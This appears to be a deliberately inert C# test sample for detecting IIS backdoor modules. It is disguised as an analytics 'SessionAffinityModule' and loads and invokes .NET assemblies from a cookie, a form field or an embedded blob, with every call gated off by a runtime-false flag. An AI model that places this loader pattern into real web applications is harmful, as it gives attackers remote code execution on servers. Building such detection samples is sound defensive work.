// Behaviour sample 5 (managed IHttpModule): in-memory assembly loader.
//
// Imitates a loader module: Init subscribes BeginRequest through a lambda;
// the lambda's target reads the cookie "_ga_vid" and the form field
// "__EVENTVALIDATION2", base64-decodes them, and runs the bytes through an
// iterator (a compiler-made state machine) that calls Assembly.Load(byte[]),
// Assembly.GetType, Type.GetMethod and MethodBase.Invoke, and
// Activator.CreateInstance. The static constructor (.cctor, an entry point
// of its own) loads an embedded base64 blob the same way.
// Varies: no Backdoor/HelloWorld names, analytics-looking cookie, the load
// sits in an iterator's MoveNext and in a .cctor.
//
// Inert: every suspicious call is inside `if (Inert.Off)`, and Inert.Off
// is a static readonly field computed at run time as false (not a
// compile-time constant, so the IL keeps the calls). The embedded blob is
// four zero bytes, not an assembly.
using System;
using System.Collections.Generic;
using System.Reflection;
using System.Web;

namespace Fabrikam.Analytics.Web
{
    internal static class Inert
    {
        internal static readonly bool Off = ComputeOff();
        static bool ComputeOff() { return false; }
    }

    public sealed class SessionAffinityModule : IHttpModule
    {
        private const string EmbeddedPlugin = "AAAAAA==";
        private static readonly Assembly Preloaded;

        static SessionAffinityModule()
        {
            if (Inert.Off)
            {
                Preloaded = Assembly.Load(Convert.FromBase64String(EmbeddedPlugin));
            }
        }

        public void Init(HttpApplication context)
        {
            context.BeginRequest += (sender, e) => OnAffinity(((HttpApplication)sender).Context);
        }

        private void OnAffinity(HttpContext ctx)
        {
            if (Inert.Off)
            {
                HttpCookie c = ctx.Request.Cookies["_ga_vid"];
                string blob = c != null ? c.Value : ctx.Request.Form["__EVENTVALIDATION2"];
                byte[] raw = Convert.FromBase64String(blob);
                foreach (object r in Stages(raw, ctx))
                {
                    ctx.Response.Write(r);
                }
            }
        }

        private static IEnumerable<object> Stages(byte[] raw, HttpContext ctx)
        {
            Assembly asm = Assembly.Load(raw);
            yield return asm.FullName;
            Type t = asm.GetType("Fabrikam.Plugin.Entry");
            MethodInfo run = t.GetMethod("Run");
            yield return run.Invoke(null, new object[] { ctx });
            object inst = Activator.CreateInstance(t);
            yield return inst.Equals(Preloaded);
        }

        public void Dispose()
        {
        }
    }
}
